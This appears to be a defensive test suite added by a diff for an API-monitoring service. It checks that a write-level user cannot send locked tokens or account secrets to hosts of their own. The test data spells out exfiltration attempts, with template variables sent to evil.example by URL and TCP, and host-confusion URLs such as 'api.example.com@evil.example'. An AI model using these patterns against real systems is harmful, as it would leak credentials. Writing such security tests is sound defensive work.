@@ -1,0 +1,215 @@
+/** Attacks by somebody who may write checks and wants to read values that are hidden from them. */
+import assert from "node:assert/strict";
+import { after, before, type TestContext, test } from "node:test";
+import { type Answer, startTestApp, type TestApp } from "../../../test/support/apps/app.ts";
+import { createKey } from "../../../test/support/apps/cast.ts";
+import {
+  type HttpReceiver,
+  startHttpReceiver,
+} from "../../../test/support/servers/http-receiver.ts";
+
+const canary = "s3cret-canary-4711";
+const ours = "https://api.example.com";
+type Body = Readonly<Record<string, unknown>>;
+
+let app: TestApp;
+let writer: string;
+let admin: string;
+before(async () => {
+  app = await startTestApp();
+  writer = (await createKey(app, "READ_WRITE")).key;
+  admin = (await createKey(app, "ADMIN")).key;
+});
+after(() => app.stop());
+
+const as = (key: string) => (method: string, path: string, body?: Body) =>
+  app.call(method, path, { key, body });
+const write = (...call: Parameters<ReturnType<typeof as>>) => as(writer)(...call);
+const decide = (...call: Parameters<ReturnType<typeof as>>) => as(admin)(...call);
+
+/** Inactive: nothing of these tests leaves the machine. */
+const apiCheck = (url: string, more: Body = {}): Body => ({
+  name: "Attack",
+  activated: false,
+  ...more,
+  request: { method: "GET", url, ...((more.request as Body) ?? {}) },
+});
+
+async function make(answer: Promise<Answer>) {
+  const { status, body, text } = await answer;
+  assert.equal(status, 201, text);
+  return body;
+}
+
+async function assertRejected(answer: Promise<Answer>, what: RegExp): Promise<void> {
+  const { status, body, text } = await answer;
+  assert.equal(status, 403, text);
+  assert.equal(body.reason, "hidden-values");
+  assert.match(body.message, what);
+  assert.ok(!text.includes(canary));
+}
+
+/** Header fields are bound to their host by the mask that stands for them. */
+async function assertAskedAgain(answer: Promise<Answer>): Promise<void> {
+  const { status, body } = await answer;
+  assert.equal(status, 400);
+  assert.match(body.message, /must be entered again/);
+}
+
+const locked = { key: "X-Token", value: canary, locked: true };
+
+function newGroup(): Promise<Body & { id: number }> {
+  const apiCheckDefaults = { url: ours, headers: [locked] };
+  const environmentVariables = [
+    { key: "GROUP_TOKEN", value: canary, locked: true },
+    { key: "GROUP_HOST", value: "api.example.com" },
+  ];
+  const body = { name: "Shop", apiCheckDefaults, environmentVariables };
+  return make(decide("POST", "/v1/check-groups", body));
+}
+
+let host: HttpReceiver;
+async function startOwnHost(t: TestContext): Promise<string> {
+  host = await startHttpReceiver(t);
+  return host.url;
+}
+
+test("a writer's check with a host of their own gets no locked value of a group", async (t) => {
+  const evil = await startOwnHost(t);
+  const { id: groupId } = await newGroup();
+  const body = apiCheck(evil, { groupId });
+  await assertRejected(write("POST", "/v1/checks/api", body), /hidden values of the group Shop/);
+  const tried = { ...body, checkType: "API" };
+  await assertRejected(write("POST", "/v1/checks/try", tried), /group Shop/);
+  const own = await make(write("POST", "/v1/checks/api", apiCheck(evil)));
+  await assertRejected(write("PUT", `/v1/checks/api/${own.id}`, { groupId }), /group Shop/);
+  await assertRejected(write("PUT", `/v1/checks/${own.id}`, { groupId }), /group Shop/);
+  const move = { ids: [own.id], action: "move", groupId };
+  await assertRejected(write("POST", "/v1/checks/bulk", move), /group Shop/);
+  const many = await write("POST", "/v1/checks/many", { checks: [{ ...body, checkType: "API" }] });
+  assert.match(many.text, /hidden values/);
+  assert.equal(host.requests.length, 0);
+});
+
+test("a variable of a group is a value of it, in every kind that sends one", async () => {
+  const { id: groupId } = await newGroup();
+  const url = { name: "Url", groupId, request: { url: "https://evil.example/{{GROUP_TOKEN}}" } };
+  await assertRejected(write("POST", "/v1/checks/url", url), /the variable GROUP_TOKEN/);
+  const request = { hostname: "evil.example", port: 25, data: "{{GROUP_TOKEN}}" };
+  const tcp = { name: "Tcp", groupId, request };
+  await assertRejected(write("POST", "/v1/checks/tcp", tcp), /the variable GROUP_TOKEN/);
+  const plain = { name: "Plain", groupId, request: { url: "https://evil.example/" } };
+  await make(write("POST", "/v1/checks/url", plain));
+});
+
+test("a writer adds checks for hosts that get the values already, and admins for any host", async () => {
+  const { id: groupId } = await newGroup();
+  await make(decide("POST", "/v1/checks/api", apiCheck(`${ours}/a`, { groupId })));
+  const same = await make(write("POST", "/v1/checks/api", apiCheck(`${ours}/b`, { groupId })));
+  const change = { request: { method: "GET", url: `${ours}/c` } };
+  assert.equal((await write("PUT", `/v1/checks/api/${same.id}`, change)).status, 200);
+  for (const url of [
+    "https://api.example.com.evil.example/",
+    "https://api.example.com@evil.example/",
+    "https://api.example.com:444/",
+    "http://api.example.com/",
+    "{{CHECK_NAME}}/",
+  ]) {
+    const moved = { request: { method: "GET", url } };
+    await assertRejected(write("PUT", `/v1/checks/api/${same.id}`, moved), /group Shop/);
+  }
+});
+
+test("a writer cannot turn a group with hidden values to another host", async () => {
+  const group = await newGroup();
+  const { id: groupId } = group;
+  await make(decide("POST", "/v1/checks/api", apiCheck("{{GROUP_BASE_URL}}/", { groupId })));
+  const tcp = { hostname: "{{GROUP_HOST}}", port: 443, data: "{{GROUP_TOKEN}}" };
+  await make(decide("POST", "/v1/checks/tcp", { name: "Tcp", groupId, request: tcp }));
+  const path = `/v1/check-groups/${groupId}`;
+  const kept = { ...locked, value: "********" };
+  const defaults = { url: "https://evil.example", headers: [kept] };
+  await assertAskedAgain(write("PUT", path, { apiCheckDefaults: defaults }));
+  const open = { apiCheckDefaults: { url: ours, headers: [kept, { key: "Host", value: "evil" }] } };
+  await assertRejected(write("PUT", path, open), /group Shop/);
+  const variables = [
+    { key: "GROUP_TOKEN", value: "********", locked: true },
+    { key: "GROUP_HOST", value: "evil.example" },
+  ];
+  await assertRejected(write("PUT", path, { environmentVariables: variables }), /group Shop/);
+  assert.equal((await write("PUT", path, { name: "Shop 2", muted: true })).status, 200);
+  const asRead = { ...group, name: "Shop 3" };
+  assert.equal((await write("PUT", path, asRead)).status, 200);
+  const typed = { ...defaults, headers: [locked] };
+  assert.equal((await decide("PUT", path, { apiCheckDefaults: typed })).status, 200);
+});
+
+test("a secret of the account goes to no new host by a writer", async () => {
+  const token = { key: "ACCOUNT_TOKEN", value: canary, secret: true };
+  await make(decide("POST", "/v1/variables", token));
+  const evil = "https://evil.example/{{ACCOUNT_TOKEN}}";
+  const url = { name: "Url", request: { url: evil } };
+  await assertRejected(write("POST", "/v1/checks/url", url), /the variable ACCOUNT_TOKEN/);
+  const headers = [{ key: "X-T", value: "{{ACCOUNT_TOKEN}}", locked: true }];
+  const hiding = apiCheck("https://evil.example/", { request: { headers } });
+  await assertRejected(write("POST", "/v1/checks/api", hiding), /ACCOUNT_TOKEN/);
+  const good = apiCheck(`${ours}/a`, { request: { headers } });
+  const made = await make(decide("POST", "/v1/checks/api", good));
+  const moved = { request: { method: "GET", url: "https://evil.example/" } };
+  await assertAskedAgain(write("PUT", `/v1/checks/api/${made.id}`, moved));
+});
+
+test("who moves a check to another host enters its hidden values again", async () => {
+  const headers = [{ ...locked }];
+  const made = await make(
+    write("POST", "/v1/checks/api", apiCheck(ours, { request: { headers } })),
+  );
+  const path = `/v1/checks/api/${made.id}`;
+  const url = "https://elsewhere.example";
+  const masked = { request: { method: "GET", url, headers: [{ ...locked, value: "********" }] } };
+  await assertAskedAgain(write("PUT", path, masked));
+  const typed = { request: { method: "GET", url, headers } };
+  assert.equal((await write("PUT", path, typed)).status, 200);
+  const variables = [{ key: "MINE", value: canary, secret: true }];
+  const tcp = await make(
+    write("POST", "/v1/checks/tcp", {
+      name: "Tcp",
+      environmentVariables: variables,
+      request: { hostname: "db.example.com", port: 5432, data: "{{MINE}}" },
+    }),
+  );
+  const moved = { request: { hostname: "evil.example", port: 5432, data: "{{MINE}}" } };
+  await assertRejected(write("PUT", `/v1/checks/tcp/${tcp.id}`, moved), /the variable MINE/);
+  const again = { ...moved, environmentVariables: variables };
+  assert.equal((await write("PUT", `/v1/checks/tcp/${tcp.id}`, again)).status, 200);
+});
+
+test("a writer cannot change the variable that is the host of hidden values", async () => {
+  await make(decide("POST", "/v1/variables", { key: "API_HOST", value: "api.example.com" }));
+  await make(decide("POST", "/v1/variables", { key: "HOST_TOKEN", value: canary, secret: true }));
+  const request = { hostname: "{{API_HOST}}", port: 443, data: "{{HOST_TOKEN}}" };
+  await make(decide("POST", "/v1/checks/tcp", { name: "By variable", request }));
+  const evil = { value: "evil.example" };
+  await assertRejected(write("PUT", "/v1/variables/API_HOST", evil), /HOST_TOKEN/);
+  await assertRejected(write("DELETE", "/v1/variables/API_HOST"), /HOST_TOKEN/);
+  assert.equal((await decide("PUT", "/v1/variables/API_HOST", evil)).status, 200);
+  await make(write("POST", "/v1/variables", { key: "UNUSED_HOST", value: "a.example" }));
+  assert.equal((await write("PUT", "/v1/variables/UNUSED_HOST", evil)).status, 200);
+  // Nobody but the check's own variables shadow it, and that is a change of its host.
+  const shadowed = { environmentVariables: [{ key: "API_HOST", value: "evil.example" }] };
+  const { body } = await decide("GET", "/v1/checks?limit=100");
+  const { id } = body.find(({ name }: { name: string }) => name === "By variable");
+  await decide("PUT", "/v1/variables/API_HOST", { value: "api.example.com" });
+  await assertRejected(write("PUT", `/v1/checks/tcp/${id}`, shadowed), /HOST_TOKEN/);
+});
+
+test("a probe of a writer's own gets no values: only admins make private locations and keys", async () => {
+  const location = { name: "Mine", slugName: "mine" };
+  assert.equal((await write("POST", "/v1/private-locations", location)).status, 403);
+  const made = await make(decide("POST", "/v1/private-locations", location));
+  const keys = `/v1/private-locations/${made.id}/keys`;
+  assert.equal((await write("POST", keys)).status, 403);
+  const read = await write("GET", "/v1/private-locations");
+  assert.ok(!read.text.includes(made.keys[0].rawKey), "a key is shown once, to its maker");
+  await make(decide("POST", keys));
+});
